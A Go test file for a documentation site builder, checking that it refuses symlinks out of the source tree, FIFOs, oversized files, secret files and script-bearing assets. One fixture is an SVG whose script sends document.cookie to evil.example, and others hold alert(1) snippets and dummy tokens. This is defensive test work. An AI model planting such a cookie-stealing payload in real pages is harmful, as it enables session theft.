package main

// The realm for the command's own reads (SEMANTICS.md §5): the layout, the
// site's stylesheet, pages and assets are read inside SRC, as regular files,
// bounded; FIFOs and devices fail at once; files that commonly hold secrets
// stay out; active content is published only from SRC/static/.

import (
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/textfrag/textfrag/goldmark-textfrag/style"
)

// hangGuard is how long a command may run before a test calls it hung. It
// is no timing assertion: every run here ends in well under a second, and
// the guard only turns a hang (a FIFO read that waits for a writer) into a
// failure instead of a stalled test binary.
const hangGuard = 60 * time.Second

// e2eRunGuarded runs the command in dir like e2eRun, but kills it and fails
// the test should it not finish.
func e2eRunGuarded(t *testing.T, dir string, args ...string) e2eResult {
	t.Helper()
	cmd := exec.Command(e2eBin(t), args...)
	cmd.Dir = dir
	var stdout, stderr strings.Builder
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	var err error
	select {
	case err = <-done:
	case <-time.After(hangGuard):
		cmd.Process.Kill()
		<-done
		t.Fatalf("textfrag %s hung (killed after %v)\n%s", strings.Join(args, " "), hangGuard, stderr.String())
	}
	return e2eResultOf(t, stdout.String(), stderr.String(), err)
}

func mkfifo(t *testing.T, name string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mkfifo(name, 0o644); err != nil {
		t.Fatal(err)
	}
}

func mustSymlink(t *testing.T, to, link string) {
	t.Helper()
	if err := os.Symlink(to, link); err != nil {
		t.Fatal(err)
	}
}

// failsWith asserts that a run failed with every one of wants in its stderr
// and left no output directory behind.
func failsWith(t *testing.T, r e2eResult, out string, wants ...string) {
	t.Helper()
	if r.code != exitError {
		t.Errorf("code %d, want %d\n%s", r.code, exitError, r.stderr)
	}
	for _, w := range wants {
		if !strings.Contains(r.stderr, w) {
			t.Errorf("stderr lacks %q:\n%s", w, r.stderr)
		}
	}
	if out != "" {
		if _, err := os.Stat(out); err == nil {
			t.Errorf("%s was written", out)
		}
	}
}

// TestRealmLayoutOutsideSRC: a layout that is a symbolic link to a file
// outside SRC is not read, so that file is never published.
func TestRealmLayoutOutsideSRC(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	e2eWrite(t, dir, map[string]string{
		"docs/index.md":        "# Home\n",
		"private/notes.html":   "PRIVATE {{.Content}}\n",
		"private/ci-token.txt": "token\n",
	})
	mustSymlink(t, filepath.Join(dir, "private", "notes.html"), filepath.Join(dir, "docs", "_layout.html"))
	r := e2eRunGuarded(t, dir, "build", "docs", "-o", "out")
	failsWith(t, r, filepath.Join(dir, "out"), filepath.Join("docs", "_layout.html"), "outside the source directory")

	// A relative link that climbs out is refused as well.
	os.Remove(filepath.Join(dir, "docs", "_layout.html"))
	mustSymlink(t, "../private/notes.html", filepath.Join(dir, "docs", "_layout.html"))
	r = e2eRunGuarded(t, dir, "build", "docs", "-o", "out")
	failsWith(t, r, filepath.Join(dir, "out"), "outside the source directory")
}

// TestRealmEndlessAndSpecialFiles: a layout that leads to /dev/zero, a
// FIFO as the layout, as a page, as a target and as the site's stylesheet:
// every command that meets one ends at once with an error naming the file
// and saying it is not a regular file.
func TestRealmEndlessAndSpecialFiles(t *testing.T) {
	t.Parallel()
	if _, err := os.Stat("/dev/zero"); err != nil {
		t.Fatal("/dev/zero:", err)
	}
	t.Run("layout to /dev/zero", func(t *testing.T) {
		t.Parallel()
		dir := t.TempDir()
		e2eWrite(t, dir, map[string]string{"docs/index.md": "# Home\n"})
		mustSymlink(t, "/dev/zero", filepath.Join(dir, "docs", "_layout.html"))
		r := e2eRunGuarded(t, dir, "build", "docs", "-o", "out")
		failsWith(t, r, filepath.Join(dir, "out"), "_layout.html")
	})
	t.Run("layout is a FIFO", func(t *testing.T) {
		t.Parallel()
		dir := t.TempDir()
		e2eWrite(t, dir, map[string]string{"docs/index.md": "# Home\n"})
		mkfifo(t, filepath.Join(dir, "docs", "_layout.html"))
		r := e2eRunGuarded(t, dir, "build", "docs", "-o", "out")
		failsWith(t, r, filepath.Join(dir, "out"), "_layout.html", "not a regular file (a FIFO)")
	})
	t.Run("page is a FIFO", func(t *testing.T) {
		t.Parallel()
		dir := t.TempDir()
		e2eWrite(t, dir, map[string]string{"docs/index.md": "# Home\n"})
		mkfifo(t, filepath.Join(dir, "docs", "pipe.md"))
		r := e2eRunGuarded(t, dir, "check", "docs")
		failsWith(t, r, "", "pipe.md", "not a regular file (a FIFO)")
		r = e2eRunGuarded(t, dir, "render", filepath.Join("docs", "pipe.md"))
		failsWith(t, r, "", "pipe.md", "not a regular file (a FIFO)")
		r = e2eRunGuarded(t, dir, "pin", "docs")
		failsWith(t, r, "", "pipe.md", "not a regular file (a FIFO)")
		// build leaves it out of the site, saying so.
		r = e2eRunGuarded(t, dir, "build", "docs", "-o", "out")
		if r.code != 0 || !strings.Contains(r.stderr, "pipe.md: left out: not a regular file but a FIFO") {
			t.Errorf("build: code %d\n%s", r.code, r.stderr)
		}
	})
	t.Run("target is a FIFO", func(t *testing.T) {
		t.Parallel()
		dir := t.TempDir()
		e2eWrite(t, dir, map[string]string{"docs/index.md": "# Home\n\n[p](src/pipe.txt#line=0,1)\n\n[q](src/alias.txt#line=0,1)\n"})
		mkfifo(t, filepath.Join(dir, "docs", "src", "pipe.txt"))
		mustSymlink(t, "pipe.txt", filepath.Join(dir, "docs", "src", "alias.txt"))
		r := e2eRunGuarded(t, dir, "build", "docs", "-o", "out")
		failsWith(t, r, filepath.Join(dir, "out"), "src/pipe.txt is not a regular file but a FIFO", "src/alias.txt is not a regular file")
		r = e2eRunGuarded(t, dir, "check", "docs")
		failsWith(t, r, "", "src/pipe.txt is not a regular file", "a FIFO, device or socket is never read")
		if strings.Contains(r.stderr, "charset") {
			t.Errorf("a FIFO is not a charset problem:\n%s", r.stderr)
		}
	})
	t.Run("stylesheet is a FIFO", func(t *testing.T) {
		t.Parallel()
		dir := t.TempDir()
		e2eWrite(t, dir, map[string]string{"docs/index.md": "# Home\n"})
		mkfifo(t, filepath.Join(dir, "docs", style.FileName))
		r := e2eRunGuarded(t, dir, "build", "docs", "-o", "out")
		// Left out of the site like any FIFO; the built-in stylesheet is
		// written in its place.
		if r.code != 0 || !strings.Contains(r.stderr, "textfrag.css: left out: not a regular file but a FIFO") {
			t.Errorf("build: code %d\n%s", r.code, r.stderr)
		}
	})
}

// TestRealmSiteFilesBounded: the layout and the site's own textfrag.css
// hold at most maxSiteFileBytes.
func TestRealmSiteFilesBounded(t *testing.T) {
	t.Parallel()
	big := strings.Repeat("x", maxSiteFileBytes+1)
	for _, name := range []string{layoutName, style.FileName} {
		dir := t.TempDir()
		e2eWrite(t, dir, map[string]string{"docs/index.md": "# Home\n", "docs/" + name: big})
		r := e2eRunGuarded(t, dir, "build", "docs", "-o", "out")
		failsWith(t, r, filepath.Join(dir, "out"), name, "more than 1048576 bytes")
		e2eWrite(t, dir, map[string]string{"docs/" + name: big[:maxSiteFileBytes-100] + "{{.Content}}"})
		if r := e2eRunGuarded(t, dir, "build", "docs", "-o", "out"); r.code != 0 {
			t.Errorf("%s of %d bytes: code %d\n%s", name, maxSiteFileBytes, r.code, r.stderr)
		}
	}
}

// TestRealmSecrets: a pull request cannot quote .git/config (where CI
// checkouts keep a token), not by name, nor through a symbolic link, nor
// publish a key as an asset; --allow-secret, as the message says, lets
// a named file through.
func TestRealmSecrets(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	const token = "AUTHORIZATION: basic c2VjcmV0"
	e2eWrite(t, dir, map[string]string{
		".git/config":          "[http]\n\textraheader = " + token + "\n",
		"docs/index.md":        "# Home\n\n[cfg](../.git/config#line=0,2)\n",
		"docs/notes.md":        "# Notes\n\n[n](notes.txt#line=0,2)\n",
		"docs/deploy/site.pem": "-----BEGIN PRIVATE KEY-----\n",
		"docs/.github/ci.yml":  "on: push\n",
	})
	mustSymlink(t, "../.git/config", filepath.Join(dir, "docs", "notes.txt"))
	r := e2eRunGuarded(t, dir, "build", "docs", "--root", ".", "-o", "out")
	failsWith(t, r, filepath.Join(dir, "out"), "docs/index.md", "--allow-secret '.git/config'", "docs/notes.txt is a symbolic link to .git/config")
	if strings.Contains(r.stderr, token) {
		t.Errorf("the token reached stderr:\n%s", r.stderr)
	}
	r = e2eRunGuarded(t, dir, "check", "docs", "--root", ".")
	failsWith(t, r, "", "--allow-secret '.git/config'")
	if strings.Contains(r.stderr, "--root") {
		t.Errorf("a secret file is not a root problem: widening the root would not help:\n%s", r.stderr)
	}

	// The remedy works, and names only that file: the key stays out.
	r = e2eRunGuarded(t, dir, "build", "docs", "--root", ".", "-o", "out", "--allow-secret", ".git/config")
	if r.code != 0 {
		t.Fatalf("--allow-secret: code %d\n%s", r.code, r.stderr)
	}
	out := e2eTree(t, filepath.Join(dir, "out"))
	if !strings.Contains(out["index.html"], token) {
		t.Errorf("the allowed file was not quoted")
	}
	if _, ok := out["deploy/site.pem"]; ok {
		t.Errorf("deploy/site.pem was published")
	}
	if !strings.Contains(r.stderr, "site.pem: left out: ") || !strings.Contains(r.stderr, "--allow-secret 'docs/deploy/site.pem'") {
		t.Errorf("no warning for deploy/site.pem:\n%s", r.stderr)
	}
}

// svgWithScript is a picture that runs script when opened on its own.
const svgWithScript = `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.example/?"+document.cookie)</script></svg>`

// TestRealmActiveContent: an .svg with a script (and .html, .js) beside a
// page is not published by build nor served by serve; under SRC/static/,
// where the maintainer chose to publish files as they are, it is.
func TestRealmActiveContent(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	e2eWrite(t, dir, map[string]string{
		"docs/index.md":           "# Home\n\n![d](diagram.svg)\n",
		"docs/diagram.svg":        svgWithScript,
		"docs/img/Diagram.SVG":    svgWithScript,
		"docs/page.html":          "<script>alert(1)</script>",
		"docs/app.js":             "alert(1)",
		"docs/feed.xml":           `<?xml-stylesheet type="text/xsl" href="x.xsl"?><a/>`,
		"docs/logo.png":           "\x89PNG\r\n",
		"docs/static/diagram.svg": svgWithScript,
		"docs/static/app.js":      "console.log(1)",
	})
	r := e2eRunGuarded(t, dir, "build", "docs", "-o", "out")
	if r.code != 0 {
		t.Fatalf("build: code %d\n%s", r.code, r.stderr)
	}
	out := e2eTree(t, filepath.Join(dir, "out"))
	for _, name := range []string{"diagram.svg", "img/Diagram.SVG", "page.html", "app.js", "feed.xml"} {
		if _, ok := out[name]; ok {
			t.Errorf("%s was published", name)
		}
		if !strings.Contains(r.stderr, name+": left out: a browser runs script") {
			t.Errorf("no warning for %s:\n%s", name, r.stderr)
		}
	}
	for _, name := range []string{"logo.png", "static/diagram.svg", "static/app.js"} {
		if _, ok := out[name]; !ok {
			t.Errorf("%s was not published", name)
		}
	}

	var lf linkFlags
	s := newServer(filepath.Join(dir, "docs"), &lf, style.CSS(), io.Discard)
	s.update(nil)
	h := s.handler()
	get := func(p string) *httptest.ResponseRecorder {
		req := httptest.NewRequest("GET", p, nil)
		req.Host = "127.0.0.1:8080"
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, req)
		return rec
	}
	for _, p := range []string{"/diagram.svg", "/img/Diagram.SVG", "/page.html", "/app.js", "/feed.xml"} {
		if rec := get(p); rec.Code != http.StatusNotFound || strings.Contains(rec.Body.String(), "script") {
			t.Errorf("serve GET %s: %d %q", p, rec.Code, rec.Body.String())
		}
	}
	rec := get("/static/diagram.svg")
	if rec.Code != 200 || rec.Body.String() != svgWithScript || rec.Header().Get("Content-Type") != "image/svg+xml" || rec.Header().Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("serve GET /static/diagram.svg: %d %v", rec.Code, rec.Header())
	}
	if rec := get("/logo.png"); rec.Code != 200 || rec.Header().Get("Content-Type") != "image/png" {
		t.Errorf("serve GET /logo.png: %d %v", rec.Code, rec.Header())
	}
	if rec := get("/index.md"); rec.Code != 200 || !strings.HasPrefix(rec.Header().Get("Content-Type"), "text/plain") {
		t.Errorf("serve GET /index.md: %d %v", rec.Code, rec.Header())
	}

	// A published file swapped for a FIFO after the scan: answered at
	// once, with an error, never a hang.
	os.Remove(filepath.Join(dir, "docs", "logo.png"))
	mkfifo(t, filepath.Join(dir, "docs", "logo.png"))
	done := make(chan *httptest.ResponseRecorder, 1)
	go func() { done <- get("/logo.png") }()
	select {
	case rec := <-done:
		if rec.Code != http.StatusInternalServerError || !strings.Contains(rec.Body.String(), "not a regular file (a FIFO)") {
			t.Errorf("serve GET /logo.png (a FIFO): %d %q", rec.Code, rec.Body.String())
		}
	case <-time.After(hangGuard):
		t.Fatal("serve hung on a FIFO")
	}
}

// textfrag.toml is the repository's, which a pull request can change: its
// allowSecrets opens nothing, .git/ (where a CI checkout keeps its token)
// least of all, and says what to give on the command line; the same globs
// on the command line do.
func TestTomlAllowSecretsOpensNothing(t *testing.T) {
	dir := t.TempDir()
	e2eWrite(t, dir, map[string]string{
		"textfrag.toml": "allowSecrets = [\".git/config\", \"config\", \".env.example\"]\n",
		".git/config":   "[http]\n\textraheader = AUTHORIZATION: basic dG9rZW4=\n",
		".env.example":  "A=1\n",
		"docs/a.md":     "[c](../.git/config#line=0,2)\n\n[e](../.env.example#line=0,1)\n",
	})
	t.Chdir(dir)
	out, code := runAs(t, false, "check", "docs")
	if code == 0 || !strings.Contains(out, "docs/a.md:1:1") || !strings.Contains(out, "docs/a.md:3:1: error") || !strings.Contains(out, "commonly holds secrets") ||
		!strings.Contains(out, "allowSecrets is not applied") || !strings.Contains(out, `--allow-secret ".env.example"`) {
		t.Errorf("check with textfrag.toml allowing secrets: exit %d\n%s", code, out)
	}
	out, code = runAs(t, false, "check", "--allow-secret", ".git/config", "--allow-secret", ".env.example", "docs")
	if code != 0 {
		t.Errorf("check --allow-secret .git/config: exit %d\n%s", code, out)
	}
}

// A Markdown page is read whole, at about ten times its size in memory: one
// larger than project.MaxPageBytes fails, named, with what to do, and is
// not read past the limit (a sparse file of 1 GiB here).
func TestPageTooLarge(t *testing.T) {
	dir := t.TempDir()
	e2eWrite(t, dir, map[string]string{"textfrag.toml": "", "docs/index.md": "# Home\n"})
	f, err := os.Create(filepath.Join(dir, "docs", "huge.md"))
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Truncate(1 << 30); err != nil {
		t.Fatal(err)
	}
	f.Close()
	t.Chdir(dir)
	for _, args := range [][]string{{"check", "docs"}, {"build", "docs", "-o", "out"}, {"pin", "docs"}} {
		out, code := runAs(t, false, args...)
		if code != 1 || !strings.Contains(out, "huge.md") || !strings.Contains(out, "at most 33554432 bytes (32 MiB): split it into pages") {
			t.Errorf("%s with a 1 GiB page: exit %d\n%s", args[0], code, out)
		}
	}
}
